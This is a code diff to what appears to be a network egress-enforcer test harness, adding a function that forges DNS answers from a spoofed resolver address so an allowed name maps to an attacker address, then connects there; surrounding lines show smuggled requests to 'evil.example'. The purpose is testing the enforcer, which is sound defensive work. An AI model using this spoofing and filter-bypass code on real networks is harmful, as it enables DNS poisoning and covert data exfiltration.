@@ -613,6 +613,29 @@ def t_raw(a):
         tcp_exchange(sender, a.src, a.dst, a.port, smuggled(a.evil, a.path), ext=ext, frag_at=24 if a.frag else None)
 
 
+def dns_answer(name, addr, qid=0x4242, ttl=3600):
+    """A DNS response: one question (NAME, A or AAAA) and one answer binding NAME to ADDR."""
+    qname = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
+    qtype = 28 if is6(addr) else 1
+    hdr = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
+    rdata = a2b(addr)
+    return (hdr + qname + struct.pack("!HH", qtype, 1) + b"\xc0\x0c" +
+            struct.pack("!HHIH", qtype, 1, ttl, len(rdata)) + rdata)
+
+
+def t_dnsforge(a):
+    """Issue 17: a forged DNS answer binding an allowed name to the attacker's address, from the resolver's
+    address and port 53 to the pod itself (IP_HDRINCL: it travels on lo), then a first flight with that name to
+    the attacker's address: the enforcer must not have learned the answer."""
+    sender = Raw(is6(a.src))
+    for port in (a.port, 53, 5353):
+        for _ in range(3):
+            sender.send(l3(a.src, a.dst, 17, udp(a.src, a.dst, 53, port, dns_answer(a.name, a.to)), None))
+    log("forged answers: %s -> %s, from %s:53 to %s" % (a.name, a.to, a.src, a.dst))
+    time.sleep(0.2)
+    send_and_read(a.to, 443, [client_hello([[a.name]], "python", MARKER)], None)
+
+
 def t_icmp(a):
     """ICMP/ICMPv6 messages with a payload: echo requests (raw socket, or the unprivileged ping socket) and
     neighbour-discovery messages (type 133/135/136) carrying data."""
@@ -704,6 +727,8 @@ def main():
     p.add_argument("--sport", type=int, help="UDP source port (default: random)")
     p.add_argument("--evil", default="evil.example", help="Host of the HTTP request a TCP connection carries")
     p.add_argument("--path", default="", help="prefix of its path (the marker follows)")
+    p = add("dnsforge", t_dnsforge, "src", "dst", "name", "to")
+    p.add_argument("--port", type=int, default=33333, help="the pod's port the forged answers go to (also 53, 5353)")
     p = add("raw", t_raw, "proto", "src", "dst")
     p.add_argument("--port", type=int, default=80)
     p.add_argument("--ext", help="IPv6 extension headers before TCP/UDP: hbh,dst,frag")
